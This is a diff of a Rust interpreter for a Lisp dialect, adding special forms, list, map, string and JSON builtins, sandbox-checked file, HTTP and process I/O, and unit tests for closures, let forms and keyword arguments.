+                    scope.define(variable, Value::Nil);
+                }
+                for (variable, value) in bindings {
+                    let value = self.eval_in(value, &scope)?;
+                    scope.define(&variable, name_lambda(value, &variable));
+                }
+                self.body(body, &scope)
+            }
+            "define" => match args {
+                [LispExpr::Symbol(variable) | LispExpr::Gensym(variable), value] => {
+                    let value = self.eval_in(value, env)?;
+                    self.replace_macro(variable, env);
+                    env.define(variable, name_lambda(value, variable));
+                    Ok(Step::Done(Value::Symbol(variable.clone())))
+                }
+                [LispExpr::List(signature), body @ ..] if !body.is_empty() => {
+                    let Some((LispExpr::Symbol(function), parameters)) = signature.split_first() else {
+                        return Err(format!("'define' requires a function name: {}", expr));
+                    };
+                    self.define_function(function, parameters, body, env)
+                }
+                _ => Err(format!("'define' requires a name and a value: {}", expr)),
+            },
+            "defun" => match args {
+                [LispExpr::Symbol(function), LispExpr::List(parameters), body @ ..] if !body.is_empty() => {
+                    self.define_function(function, parameters, body, env)
+                }
+                _ => Err(format!("'defun' requires a name, a parameter list, and a body: {}", expr)),
+            },
+            "defstruct" => {
+                let definition = Rc::new(StructDef::parse(args)?);
+                self.define_type_function(&definition.constructor(), TypeFunction::Constructor(definition.clone()), env);
+                for (index, field) in definition.fields.iter().enumerate() {
+                    self.define_type_function(&definition.accessor(field), TypeFunction::Accessor(definition.name.clone(), index), env);
+                }
+                for method in &definition.methods {
+                    let parameters = method.parameters.iter().map(|parameter| parameter.name.clone());
+                    self.define_method(method.name.clone(), definition.name.clone(), parameters, &method.body, env)?;
+                }
+                Ok(Step::Done(Value::Symbol(definition.name.clone())))
+            }
+            "deftrait" => {
+                let definition = TraitDef::parse(args)?;
+                let name = definition.name.clone();
+                self.traits.insert(name.clone(), Rc::new(definition));
+                Ok(Step::Done(Value::Symbol(name)))
+            }
+            "defimpl" => {
+                let implementation = ImplDef::parse(args)?;
+                let Some(definition) = self.traits.get(&implementation.trait_name).cloned() else {
+                    return Err(format!("'defimpl' refers to unknown trait '{}'", implementation.trait_name));
+                };
+                for (declared, method) in implementation.resolve(&definition)? {
+                    match method {
+                        Some(method) => {
+                            let parameters = method.parameters.iter().map(|parameter| parameter.name.clone());
+                            self.define_method(declared.name.clone(), implementation.type_name.clone(), parameters, &method.body, env)?;
+                        }
+                        None => {
+                            let parameters = declared.parameters.iter().map(|parameter| parameter.name.clone());
+                            let default = declared.default.as_ref().expect("resolve only leaves out methods with defaults");
+                            self.define_method(declared.name.clone(), implementation.type_name.clone(), parameters, default, env)?;
+                        }
+                    }
+                }
+                Ok(Step::Done(Value::Symbol(implementation.type_name.clone())))
+            }
+            // Crates only matter to compiled programs, which refer to them in type annotations
+            "require-crate" => {
+                CrateRequirement::parse(args)?;
+                Ok(Step::Done(Value::Nil))
+            }
+            "lambda" | "fn" => match args {
+                [LispExpr::List(parameters), body @ ..] if !body.is_empty() => {
+                    Ok(Step::Done(Value::Lambda(Rc::new(make_lambda(None, parameters, body, env)?))))
+                }
+                _ => Err(format!("'{}' requires a parameter list and a body: {}", name, expr)),
+            },
+            "set!" => {
+                let [LispExpr::Symbol(variable) | LispExpr::Gensym(variable), value] = args else {
+                    return Err(format!("'set!' requires a variable and a value: {}", expr));
+                };
+                let value = self.eval_in(value, env)?;
+                env.set(variable, value.clone())?;
+                Ok(Step::Done(value))
+            }
+            "begin" | "progn" => self.body(args, env),
+            "assert-equal" => {
+                let [expected, actual] = args else {
+                    return Err(format!("Wrong number of arguments to 'assert-equal' in {}", expr));
+                };
+                let expected = self.eval_in(expected, env)?;
+                let actual = self.eval_in(actual, env)?;
+                if expected != actual {
+                    return Err(format!("{} failed\n  - expected: {}\n  + actual:   {}", expr, expected, actual));
+                }
+                Ok(Step::Done(Value::Nil))
+            }
+            "assert" => {
+                let (condition, message) = match args {
+                    [condition] => (condition, None),
+                    [condition, message] => (condition, Some(message)),
+                    _ => return Err(format!("'assert' requires a condition and an optional message: {}", expr)),
+                };
+                if self.eval_in(condition, env)?.is_truthy() {
+                    return Ok(Step::Done(Value::Nil));
+                }
+                Err(match message {
+                    Some(message) => match self.eval_in(message, env)? {
+                        Value::String(message) => format!("Assertion failed: {}", message),
+                        other => format!("Assertion failed: {}", other),
+                    },
+                    None => format!("Assertion failed: {}", condition),
+                })
+            }
+            "assert-true" => {
+                let [condition] = args else {
+                    return Err(format!("Wrong number of arguments to 'assert-true' in {}", expr));
+                };
+                if !self.eval_in(condition, env)?.is_truthy() {
+                    return Err(format!("{} failed: the condition was false", expr));
+                }
+                Ok(Step::Done(Value::Nil))
+            }
+            // Values are not `Send`, so the body runs on this thread
+            "spawn" | "thread" | "async" => {
+                if args.is_empty() {
+                    return Err(format!("'{}' requires a body", name));
+                }
+                if let Some(monitor) = &self.monitor {
+                    monitor.check_capability(&Capability::ThreadSpawn).map_err(violation)?;
+                }
+                self.body(args, &Environment::child(env))
+            }
+            _ => unreachable!("'{}' is listed in SPECIAL_FORMS", name),
+        }
+    }
+
+    fn define_function(&mut self, name: &str, parameters: &[LispExpr], body: &[LispExpr], env: &Rc<Environment>) -> Result<Step, String> {
+        // Type parameters only matter to generated code: `id<T>` is called as `id`
+        let (name, _) = types::split_generics(name);
+        let lambda = make_lambda(Some(name), parameters, body, env)?;
+        self.replace_macro(name, env);
+        env.define(name, Value::Lambda(Rc::new(lambda)));
+        Ok(Step::Done(Value::Symbol(name.into())))
+    }
+
+    fn define_type_function(&mut self, name: &str, function: TypeFunction, env: &Rc<Environment>) {
+        self.type_functions.insert(name.to_string(), function);
+        env.define(name, Value::Builtin(name.into()));
+    }
+
+    /// Add `type_name`'s implementation of a method taking `self` and `parameters`
+    fn define_method(
+        &mut self,
+        method: Symbol,
+        type_name: Symbol,
+        parameters: impl Iterator<Item = Symbol>,
+        body: &LispExpr,
+        env: &Rc<Environment>,
+    ) -> Result<(), String> {
+        let parameters: Vec<LispExpr> = std::iter::once(Symbol::from("self")).chain(parameters).map(LispExpr::Symbol).collect();
+        let lambda = Value::Lambda(Rc::new(make_lambda(Some(&method), &parameters, std::slice::from_ref(body), env)?));
+        match self.type_functions.get_mut(method.as_str()) {
+            Some(TypeFunction::Method(implementations)) => {
+                implementations.insert(type_name.to_string(), lambda);
+            }
+            _ => self.define_type_function(&method, TypeFunction::Method(HashMap::from([(type_name.to_string(), lambda)])), env),
+        }
+        Ok(())
+    }
+
+    /// Construct a struct, read one of its fields, or call the implementation of a
+    /// method for the type of its first argument
+    fn call_type_function(&mut self, name: &str, args: Vec<Value>) -> Result<Step, String> {
+        let implementation = match &self.type_functions[name] {
+            TypeFunction::Constructor(definition) => {
+                if args.len() != definition.fields.len() {
+                    return Err(format!("'{}' expects {} argument(s), got {}", name, definition.fields.len(), args.len()));
+                }
+                let fields = definition.fields.iter().map(|field| field.name.clone()).zip(args).collect();
+                return Ok(Step::Done(Value::Struct { name: definition.name.clone(), fields }));
+            }
+            TypeFunction::Accessor(type_name, index) => {
+                return match args.as_slice() {
+                    [Value::Struct { name, fields }] if name == type_name => Ok(Step::Done(fields[*index].1.clone())),
+                    [other] => Err(format!("'{}' expects a {}, got {} '{}'", name, type_name, other.type_name(), other)),
+                    _ => Err(format!("'{}' expects 1 argument(s), got {}", name, args.len())),
+                };
+            }
+            TypeFunction::Method(implementations) => {
+                let Some(instance) = args.first() else {
+                    return Err(format!("Method '{}' requires an instance to call it on", name));
+                };
+                implementations.get(instance.type_name()).cloned()
+            }
+        };
+        match implementation {
+            Some(lambda) => self.call(&lambda, args),
+            // A method named like a builtin falls back to it for other types
+            None if BUILTINS.contains(&name) => self.call_builtin(name, args).map(Step::Done),
+            None => Err(format!("Method '{}' is not defined for {} '{}'", name, args[0].type_name(), args[0])),
+        }
+    }
+
+    /// A global definition replaces a macro of the same name
+    fn replace_macro(&mut self, name: &str, env: &Rc<Environment>) {
+        if Rc::ptr_eq(env, &self.global) {
+            self.expander.remove_macro(name);
+        }
+    }
+
+    fn quasiquote(&mut self, template: &LispExpr, env: &Rc<Environment>) -> Result<Value, String> {
+        match template {
+            LispExpr::Unquote(inner) => self.eval_in(inner, env),
+            LispExpr::List(elements) => {
+                let mut values = Vec::new();
+                for element in elements.iter() {
+                    match element {
+                        LispExpr::Splice(inner) => match self.eval_in(inner, env)? {
+                            Value::List(spliced) => values.extend(spliced),
+                            Value::Nil => {}
+                            other => return Err(format!("Cannot splice {} '{}' into a list", other.type_name(), other)),
+                        },
+                        _ => values.push(self.quasiquote(element, env)?),
+                    }
+                }
+                Ok(Value::List(values))
+            }
+            LispExpr::Splice(_) => Err(format!("Splice outside of a list: {}", template)),
+            other => Ok(Value::from_expr(other)),
+        }
+    }
+
+    fn call_builtin(&mut self, name: &str, args: Vec<Value>) -> Result<Value, String> {
+        match name {
+            "+" | "*" => {
+                let numbers = numbers(name, &args)?;
+                Ok(Value::Number(if name == "+" { numbers.iter().sum() } else { numbers.iter().product() }))
+            }
+            "-" | "/" => {
+                let numbers = numbers(name, &args)?;
+                let Some((first, rest)) = numbers.split_first() else {
+                    return Err(format!("Arithmetic operation '{}' requires at least one argument", name));
+                };
+                Ok(Value::Number(match (name, rest.is_empty()) {
+                    ("-", true) => -first,
+                    ("/", true) => 1.0 / first,
+                    ("-", false) => rest.iter().fold(*first, |acc, n| acc - n),
+                    _ => rest.iter().fold(*first, |acc, n| acc / n),
+                }))
+            }
+            "mod" => {
+                let [a, b] = numbers_exact(name, &args)?;
+                Ok(Value::Number(a.rem_euclid(b)))
+            }
+            "abs" | "sqrt" => {
+                let [n] = numbers_exact(name, &args)?;
+                Ok(Value::Number(if name == "abs" { n.abs() } else { n.sqrt() }))
+            }
+            "min" | "max" => {
+                let numbers = numbers(name, &args)?;
+                let pick = if name == "min" { f64::min } else { f64::max };
+                numbers.into_iter().reduce(pick).map(Value::Number)
+                    .ok_or_else(|| format!("'{}' requires at least one argument", name))
+            }
+            "=" => Ok(Value::Bool(args.windows(2).all(|pair| pair[0] == pair[1]))),
+            "<" | ">" | "<=" | ">=" => {
+                let numbers = numbers(name, &args)?;
+                let ordered = |a: f64, b: f64| match name {
+                    "<" => a < b,
+                    ">" => a > b,
+                    "<=" => a <= b,
+                    _ => a >= b,
+                };
+                Ok(Value::Bool(numbers.windows(2).all(|pair| ordered(pair[0], pair[1]))))
+            }
+            "not" => {
+                let [value] = exact(name, args)?;
+                Ok(Value::Bool(!value.is_truthy()))
+            }
+            "list" => Ok(Value::List(args)),
+            "cons" => {
+                let [head, tail] = exact(name, args)?;
+                let mut list = vec![head];
+                list.extend(into_list(name, tail)?);
+                Ok(Value::List(list))
+            }
+            "car" | "first" => {
+                let [list] = exact(name, args)?;
+                Ok(into_list(name, list)?.into_iter().next().unwrap_or(Value::Nil))
+            }
+            "cdr" | "rest" => {
+                let [list] = exact(name, args)?;
+                Ok(Value::List(into_list(name, list)?.into_iter().skip(1).collect()))
+            }
+            "nth" => {
+                let [index, list] = exact(name, args)?;
+                let index = index_arg(name, &index)?;
+                Ok(into_list(name, list)?.into_iter().nth(index).unwrap_or(Value::Nil))
+            }
+            "length" => {
+                let [value] = exact(name, args)?;
+                let length = match &value {
+                    Value::String(s) => s.chars().count(),
+                    Value::Map(entries) => entries.len(),
+                    _ => into_list(name, value)?.len(),
+                };
+                Ok(Value::Number(length as f64))
+            }
+            "append" => {
+                let mut appended = Vec::new();
+                for list in args {
+                    appended.extend(into_list(name, list)?);
+                }
+                Ok(Value::List(appended))
+            }
+            "reverse" => {
+                let [list] = exact(name, args)?;
+                let mut list = into_list(name, list)?;
+                list.reverse();
+                Ok(Value::List(list))
+            }
+            "empty?" => {
+                let [value] = exact(name, args)?;
+                Ok(Value::Bool(match &value {
+                    Value::String(s) => s.is_empty(),
+                    Value::Map(entries) => entries.is_empty(),
+                    _ => into_list(name, value)?.is_empty(),
+                }))
+            }
+            "map" | "filter" => {
+                let [function, list] = exact(name, args)?;
+                let mut results = Vec::new();
+                for element in into_list(name, list)? {
+                    let result = self.apply(&function, vec![element.clone()])?;
+                    if name == "map" {
+                        results.push(result);
+                    } else if result.is_truthy() {
+                        results.push(element);
+                    }
+                }
+                Ok(Value::List(results))
+            }
+            "reduce" => {
+                let [function, initial, list] = exact(name, args)?;
+                into_list(name, list)?
+                    .into_iter()
+                    .try_fold(initial, |acc, element| self.apply(&function, vec![acc, element]))
+            }
+            "apply" => {
+                let [function, list] = exact(name, args)?;
+                let args = into_list(name, list)?;
+                self.apply(&function, args)
+            }
+            "string-append" => {
+                let strings: Vec<&str> = args.iter().map(|arg| string_arg(name, arg)).collect::<Result<_, _>>()?;
+                Ok(Value::String(strings.concat()))
+            }
+            "string-length" => {
+                let [s] = exact(name, args)?;
+                Ok(Value::Number(string_arg(name, &s)?.chars().count() as f64))
+            }
+            "substring" => {
+                let (s, start, end) = match args.as_slice() {
+                    [s, start] => (s, start, None),
+                    [s, start, end] => (s, start, Some(end)),
+                    _ => return Err("'substring' requires a string, a start, and an optional end".to_string()),
+                };
+                let chars: Vec<char> = string_arg(name, s)?.chars().collect();
+                let start = index_arg(name, start)?;
+                let end = end.map(|end| index_arg(name, end)).transpose()?.unwrap_or(chars.len());
+                if start > end || end > chars.len() {
+                    return Err(format!("'substring' range {}..{} is out of bounds for length {}", start, end, chars.len()));
+                }
+                Ok(Value::String(chars[start..end].iter().collect()))
+            }
+            "string->number" => {
+                let [s] = exact(name, args)?;
+                let s = string_arg(name, &s)?;
+                s.trim().parse().map(Value::Number).map_err(|_| format!("'string->number' cannot parse \"{}\"", s))
+            }
+            "number->string" => {
+                let [n] = numbers_exact(name, &args)?;
+                Ok(Value::String(n.to_string()))
+            }
+            "string->symbol" => {
+                let [s] = exact(name, args)?;
+                Ok(Value::Symbol(string_arg(name, &s)?.into()))
+            }
+            "symbol->string" => match exact(name, args)? {
+                [Value::Symbol(s)] => Ok(Value::String(s.to_string())),
+                [other] => Err(format!("'symbol->string' expects a symbol, got {} '{}'", other.type_name(), other)),
+            },
+            "to-bool" => {
+                let [x] = exact(name, args)?;
+                Ok(Value::Bool(x.is_truthy()))
+            }
+            "hash-map" => {
+                if !args.len().is_multiple_of(2) {
+                    return Err("'hash-map' requires an even number of arguments: keys and values".to_string());
+                }
+                let mut entries = Vec::new();
+                let mut args = args.into_iter();
+                while let (Some(key), Some(value)) = (args.next(), args.next()) {
+                    map_insert(&mut entries, key, value);
+                }
+                Ok(Value::Map(entries))
+            }
+            "get" => {
+                let (map, key, default) = match args.as_slice() {
+                    [map, key] => (map, key, Value::Nil),
+                    [map, key, default] => (map, key, default.clone()),
+                    _ => return Err("'get' requires a map, a key, and an optional default".to_string()),
+                };
+                Ok(map_get(map_arg(name, map)?, key).cloned().unwrap_or(default))
+            }
+            "assoc" => {
+                let [map, key, value] = exact(name, args)?;
+                let mut entries = into_map(name, map)?;
+                map_insert(&mut entries, key, value);
+                Ok(Value::Map(entries))
+            }
+            "dissoc" => {
+                let [map, key] = exact(name, args)?;
+                let mut entries = into_map(name, map)?;
+                entries.retain(|(k, _)| *k != key);
+                Ok(Value::Map(entries))
+            }
+            // `values` of a single map is its values; otherwise it returns its arguments as
+            // multiple values, a single value being just that value
+            "values" if !matches!(args.as_slice(), [Value::Map(_)]) => Ok(match <[Value; 1]>::try_from(args) {
+                Ok([value]) => value,
+                Err(args) => Value::Values(args),
+            }),
+            "keys" | "values" => {
+                let [map] = exact(name, args)?;
+                let entries = into_map(name, map)?.into_iter();
+                Ok(Value::List(if name == "keys" { entries.map(|(k, _)| k).collect() } else { entries.map(|(_, v)| v).collect() }))
+            }
+            "contains?" => {
+                let [map, key] = exact(name, args)?;
+                Ok(Value::Bool(map_get(map_arg(name, &map)?, &key).is_some()))
+            }
+            "number?" | "string?" | "symbol?" | "list?" | "map?" | "procedure?" | "nil?" => {
+                let [value] = exact(name, args)?;
+                Ok(Value::Bool(match name {
+                    "number?" => matches!(value, Value::Number(_)),
+                    "string?" => matches!(value, Value::String(_)),
+                    "symbol?" => matches!(value, Value::Symbol(_)),
+                    "list?" => matches!(value, Value::List(_)),
+                    "map?" => matches!(value, Value::Map(_)),
+                    "procedure?" => matches!(value, Value::Lambda(_) | Value::Builtin(_)),
+                    _ => matches!(value, Value::Nil),
+                }))
+            }
+            "now" | "elapsed" => {
+                if let Some(monitor) = &self.monitor {
+                    monitor.check_capability(&Capability::SystemTime).map_err(violation)?;
+                }
+                let now = clock().as_secs_f64() * 1000.0;
+                if name == "now" {
+                    let [] = exact(name, args)?;
+                    return Ok(Value::Number(now));
+                }
+                let [start] = numbers_exact(name, &args)?;
+                Ok(Value::Number(now - start))
+            }
+            "random" => {
+                let [] = exact(name, args)?;
+                Ok(Value::Number((splitmix64(&mut self.rng) >> 11) as f64 / (1u64 << 53) as f64))
+            }
+            "random-int" => {
+                let [lo, hi] = numbers_exact(name, &args)?;
+                if lo.fract() != 0.0 || hi.fract() != 0.0 || hi <= lo {
+                    return Err(format!("'random-int' requires integers lo < hi, got {} and {}", lo, hi));
+                }
+                Ok(Value::Number(lo + (splitmix64(&mut self.rng) % (hi - lo) as u64) as f64))
+            }
+            "json-parse" => {
+                let [s] = exact(name, args)?;
+                let json = serde_json::from_str(string_arg(name, &s)?).map_err(|e| format!("'json-parse' failed: {}", e))?;
+                Ok(Value::from_json(json))
+            }
+            "json-get" => match exact(name, args)? {
+                [Value::Map(entries), key] => Ok(map_get(&entries, &key).cloned().unwrap_or(Value::Nil)),
+                [Value::List(elements), index] => Ok(elements.get(index_arg(name, &index)?).cloned().unwrap_or(Value::Nil)),
+                [other, _] => Err(format!("'json-get' expects a map or list, got {} '{}'", other.type_name(), other)),
+            },
+            "json-stringify" => {
+                let [value] = exact(name, args)?;
+                value.to_json().map(|json| Value::String(json.to_string())).map_err(|e| format!("'json-stringify': {}", e))
+            }
+            "print" => {
+                let text: Vec<String> = args.iter().map(Value::to_print_string).collect();
+                println!("{}", text.join(" "));
+                Ok(Value::Nil)
+            }
+            "read-file" | "write-file" | "http-get" | "http-post" | "run-command" | "getenv" => self.call_io(name, args),
+            _ => Err(format!("Unknown function: {}", name)),
+        }
+    }
+
+    fn call_io(&mut self, name: &str, args: Vec<Value>) -> Result<Value, String> {
+        let arity = if matches!(name, "write-file" | "http-post") { 2 } else { 1 };
+        if name == "run-command" && args.is_empty() {
+            return Err("'run-command' requires a program and its arguments".to_string());
+        } else if name != "run-command" && args.len() != arity {
+            return Err(format!("'{}' requires exactly {} argument(s)", name, arity));
+        }
+        let arg = string_arg(name, &args[0])?;
+        if name.starts_with("http-") && arg.starts_with('-') {
+            return Err(format!("'{}' URL would be read as a curl option: {}", name, arg));
+        }
+        if name.starts_with("http-") && !is_http_url(arg) {
+            return Err(format!("'{}' only accepts http and https URLs: {}", name, arg));
+        }
+        if let Some(monitor) = &self.monitor {
+            let checked = match name {
+                "read-file" => monitor.check_file_read(Path::new(arg)),
+                "write-file" => monitor.check_file_write(Path::new(arg)),
+                "http-get" | "http-post" => monitor.check_network_access(arg),
+                "run-command" => monitor.check_capability(&Capability::ProcessSpawn),
+                _ => monitor.check_env_access(arg),
+            };
+            checked.map_err(violation)?;
+        }
+
+        let io_error = |e: std::io::Error| format!("'{}' failed for \"{}\": {}", name, arg, e);
+        match name {
+            "read-file" => std::fs::read_to_string(arg).map(Value::String).map_err(io_error),
+            "write-file" => {
+                std::fs::write(arg, args[1].to_print_string()).map_err(io_error)?;
+                Ok(Value::Nil)
+            }
+            "getenv" => Ok(Value::String(std::env::var(arg).unwrap_or_default())),
+            _ => {
+                let output = match name {
+                    "http-get" => std::process::Command::new("curl").args(["-s", "--proto", "=http,https", "--", arg]).output(),
+                    "http-post" => std::process::Command::new("curl")
+                        .args(["-s", "--proto", "=http,https", "-X", "POST", "--data-raw"])
+                        .arg(args[1].to_print_string())
+                        .args(["--", arg])
+                        .output(),
+                    _ => {
+                        let argv: Vec<&str> = args[1..].iter().map(|arg| string_arg(name, arg)).collect::<Result<_, _>>()?;
+                        std::process::Command::new(arg).args(argv).output()
+                    }
+                };
+                Ok(Value::String(String::from_utf8_lossy(&output.map_err(io_error)?.stdout).to_string()))
+            }
+        }
+    }
+}
+
+/// The name a hygiene-renamed symbol (`name#gN`) had in the macro body
+fn base_name(name: &str) -> &str {
+    name.split_once('#').map_or(name, |(base, _)| base)
+}
+
+/// Time since the Unix epoch
+fn epoch_duration() -> Duration {
+    SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default()
+}
+
+/// Time since the Unix epoch, which `now` and `elapsed` report in milliseconds: the
+/// wall-clock time of the first reading, advanced by a monotonic `Instant`, so later
+/// readings are never earlier ones
+fn clock() -> Duration {
+    static START: OnceLock<(Instant, Duration)> = OnceLock::new();
+    let (start, epoch) = START.get_or_init(|| (Instant::now(), epoch_duration()));
+    *epoch + start.elapsed()
+}
+
+/// One step of splitmix64; generated programs use the same generator
+pub(crate) fn splitmix64(state: &mut u64) -> u64 {
+    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
+    let mut z = *state;
+    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+    z ^ (z >> 31)
+}
+
+fn violation(violation: SandboxViolation) -> String {
+    format!("Sandbox violation: {}", violation)
+}
+
+fn make_lambda(name: Option<&str>, parameters: &[LispExpr], body: &[LispExpr], env: &Rc<Environment>) -> Result<Lambda, String> {
+    let parameters = LambdaList::parse(parameters)?;
+    let (_, body) = types::return_type(body);
+    let declarations = Declarations::parse(body.iter().take_while(|form| declarations::is_declaration(form)), DefinitionKind::Function)?;
+    let (contract, body) = Contract::parse(body)?;
+    Ok(Lambda {
+        name: name.map(str::to_string),
+        parameters,
+        body: body.to_vec(),
+        env: env.clone(),
+        contract,
+        capabilities: declarations.capabilities,
+    })
+}
+
+/// The variables and value forms of a `let`-style binding list
+fn let_bindings(bindings: &[LispExpr]) -> Result<Vec<(Symbol, &LispExpr)>, String> {
+    bindings
+        .iter()
+        .map(|binding| match binding.as_list() {
+            Some([LispExpr::Symbol(variable) | LispExpr::Gensym(variable), value]) => Ok((variable.clone(), value)),
+            _ => Err(format!("Each binding must be a list of [variable, value]: {}", binding)),
+        })
+        .collect()
+}
+
+/// The patterns and value forms of a `let` binding list; a pattern in place of the
+/// variable takes the value apart like `destructuring-bind`
+fn pattern_bindings(bindings: &[LispExpr]) -> Result<Vec<(Pattern, &LispExpr)>, String> {
+    bindings
+        .iter()
+        .map(|binding| match binding.as_list() {
+            Some([pattern, value]) => Ok((Pattern::parse(pattern).map_err(|e| e.to_string())?, value)),
+            _ => Err(format!("Each binding must be a list of [pattern, value]: {}", binding)),
+        })
+        .collect()
+}
+
+fn destructure(form: &str, pattern: &Pattern, value: Value, scope: &Rc<Environment>) -> Result<(), String> {
+    let mut bindings = Vec::new();
+    pattern
+        .bind(&value, &mut bindings)
+        .map_err(|error| format!("'{}' pattern {} does not match {}: {}", form, pattern, value, error))?;
+    for (variable, value) in bindings {
+        scope.define(&variable, value);
+    }
+    Ok(())
+}
+
+impl Destructure for Value {
+    fn elements(&self) -> Option<&[Self]> {
+        match self {
+            Value::List(elements) => Some(elements),
+            _ => None,
+        }
+    }
+
+    fn from_elements(elements: Vec<Self>) -> Self {
+        Value::List(elements)
+    }
+}
+
+/// `(define f (lambda ...))` names the lambda after `f`, for messages
+fn name_lambda(value: Value, name: &str) -> Value {
+    match value {
+        Value::Lambda(lambda) if lambda.name.is_none() => Value::Lambda(Rc::new(Lambda {
+            name: Some(name.to_string()),
+            parameters: lambda.parameters.clone(),
+            body: lambda.body.clone(),
+            env: lambda.env.clone(),
+            contract: lambda.contract.clone(),
+            capabilities: lambda.capabilities.clone(),
+        })),
+        other => other,
+    }
+}
+
+fn exact<const N: usize>(name: &str, args: Vec<Value>) -> Result<[Value; N], String> {
+    args.try_into().map_err(|_| format!("'{}' requires exactly {} argument(s)", name, N))
+}
+
+fn numbers(name: &str, args: &[Value]) -> Result<Vec<f64>, String> {
+    args.iter()
+        .map(|arg| match arg {
+            Value::Number(n) => Ok(*n),
+            other => Err(format!("'{}' expects numbers, got {} '{}'", name, other.type_name(), other)),
+        })
+        .collect()
+}
+
+fn numbers_exact<const N: usize>(name: &str, args: &[Value]) -> Result<[f64; N], String> {
+    numbers(name, args)?.try_into().map_err(|_| format!("'{}' requires exactly {} argument(s)", name, N))
+}
+
+fn index_arg(name: &str, value: &Value) -> Result<usize, String> {
+    match value {
+        Value::Number(n) if *n >= 0.0 && n.fract() == 0.0 => Ok(*n as usize),
+        other => Err(format!("'{}' expects a non-negative integer index, got '{}'", name, other)),
+    }
+}
+
+fn string_arg<'a>(name: &str, value: &'a Value) -> Result<&'a str, String> {
+    match value {
+        Value::String(s) => Ok(s),
+        other => Err(format!("'{}' expects a string, got {} '{}'", name, other.type_name(), other)),
+    }
+}
+
+/// A list argument; `nil` is the empty list
+fn into_list(name: &str, value: Value) -> Result<Vec<Value>, String> {
+    match value {
+        Value::List(elements) => Ok(elements),
+        Value::Nil => Ok(Vec::new()),
+        other => Err(format!("'{}' expects a list, got {} '{}'", name, other.type_name(), other)),
+    }
+}
+
+fn map_arg<'a>(name: &str, value: &'a Value) -> Result<&'a [(Value, Value)], String> {
+    match value {
+        Value::Map(entries) => Ok(entries),
+        Value::Nil => Ok(&[]),
+        other => Err(format!("'{}' expects a map, got {} '{}'", name, other.type_name(), other)),
+    }
+}
+
+fn into_map(name: &str, value: Value) -> Result<Vec<(Value, Value)>, String> {
+    match value {
+        Value::Map(entries) => Ok(entries),
+        Value::Nil => Ok(Vec::new()),
+        other => Err(format!("'{}' expects a map, got {} '{}'", name, other.type_name(), other)),
+    }
+}
+
+fn map_insert(entries: &mut Vec<(Value, Value)>, key: Value, value: Value) {
+    match entries.iter_mut().find(|(k, _)| *k == key) {
+        Some(entry) => entry.1 = value,
+        None => entries.push((key, value)),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::lexer::tokenize;
+    use crate::parser::parse;
+
+    fn eval(source: &str) -> Result<Value, String> {
+        Interpreter::new().eval_program(&parse(tokenize(source).unwrap()).unwrap())
+    }
+
+    fn eval_ok(source: &str) -> String {
+        eval(source).unwrap().to_string()
+    }
+
+    #[test]
+    fn test_environment_chain() {
+        let global = Environment::new();
+        global.define("x", Value::Number(1.0));
+        let inner = Environment::child(&global);
+        inner.define("y", Value::Number(2.0));
+        assert_eq!(inner.get("x"), Some(Value::Number(1.0)));
+        assert_eq!(global.get("y"), None);
+
+        inner.set("x", Value::Number(3.0)).unwrap();
+        assert_eq!(global.get("x"), Some(Value::Number(3.0)));
+        assert!(inner.set("z", Value::Nil).is_err());
+        assert_eq!(inner.names(), vec!["y".to_string()]);
+    }
+
+    #[test]
+    fn test_arithmetic_and_conditionals() {
+        assert_eq!(eval_ok("(+ 1 2 (* 3 4))"), "15");
+        assert_eq!(eval_ok("(- 5) (/ 8 2 2)"), "2");
+        assert_eq!(eval_ok("(if (< 1 2 3) \"yes\" \"no\")"), "\"yes\"");
+        assert_eq!(eval_ok("(cond ((> 1 2) 'a) (else 'b))"), "b");
+        assert_eq!(eval_ok("(and 1 nil 2)"), "nil");
+        assert_eq!(eval_ok("(let ((x 2) (y (* x 3))) (+ x y))"), "8");
+        assert_eq!(eval_ok("(mod -7 3)"), "2");
+    }
+
+    #[test]
+    fn test_closures_and_recursion() {
+        assert_eq!(eval_ok("(defun fact (n) (if (<= n 1) 1 (* n (fact (- n 1))))) (fact 10)"), "3628800");
+        assert_eq!(eval_ok("(define (adder n) (lambda (x) (+ x n))) ((adder 5) 10)"), "15");
+        assert_eq!(
+            eval_ok("(define count 0) (define (bump) (set! count (+ count 1))) (bump) (bump) count"),
+            "2"
+        );
+        assert_eq!(eval_ok("(defun f (a &rest more) (cons a more)) (f 1 2 3)"), "(1 2 3)");
+        // Tail calls do not count towards the depth limit
+        assert_eq!(eval_ok("(defun down (n) (if (= n 0) 'done (down (- n 1)))) (down 100000)"), "done");
+    }
+
+    #[test]
+    fn test_let_forms() {
+        assert_eq!(eval_ok("(let* ((x 2) (y (* x 3))) (list x y))"), "(2 6)");
+        // Bindings end with their body
+        assert_eq!(eval_ok("(define x 1) (let* ((x 10)) x) x"), "1");
+        assert_eq!(eval_ok("(let loop ((i 0) (acc '())) (if (= i 3) (reverse acc) (loop (+ i 1) (cons i acc))))"), "(0 1 2)");
+        // Named let loops run in constant stack, and the loop name is local
+        assert_eq!(eval_ok("(let count ((n 100000)) (if (= n 0) 'done (count (- n 1))))"), "done");
+        assert!(eval("(let loop ((i 0)) i) (loop 1)").is_err());
+        assert_eq!(
+            eval_ok(
+                "(letrec ((even? (lambda (n) (if (= n 0) true (odd? (- n 1)))))
+                          (odd? (lambda (n) (if (= n 0) false (even? (- n 1))))))
+                   (list (even? 10) (odd? 7)))"
+            ),
+            "(true true)"
+        );
+        assert!(eval("(letrec ((f (lambda () 1))) (f)) (f)").is_err());
+        assert!(eval("(letrec (x) x)").is_err());
+    }
+
+    #[test]
+    fn test_optional_and_keyword_arguments() {
+        let greet = r#"(defun greet (name &optional (title "") &key (greeting "Hello") (punctuation (if (= title "") "." "!")))
+                         (string-append greeting ", " title name punctuation))"#;
+        assert_eq!(eval_ok(&format!("{} (greet \"Ann\")", greet)), "\"Hello, Ann.\"");
+        assert_eq!(eval_ok(&format!("{} (greet \"Ann\" :greeting \"Hi\")", greet)), "\"Hi, Ann.\"");
+        assert_eq!(eval_ok(&format!("{} (greet \"Ann\" \"Dr \" :punctuation \"?\")", greet)), "\"Hello, Dr Ann?\"");
+        assert_eq!(
+            eval(&format!("{} (greet \"Ann\" :colour \"red\")", greet)).unwrap_err(),
+            "'greet' has no keyword argument :colour (expected one of :greeting, :punctuation)"
+        );
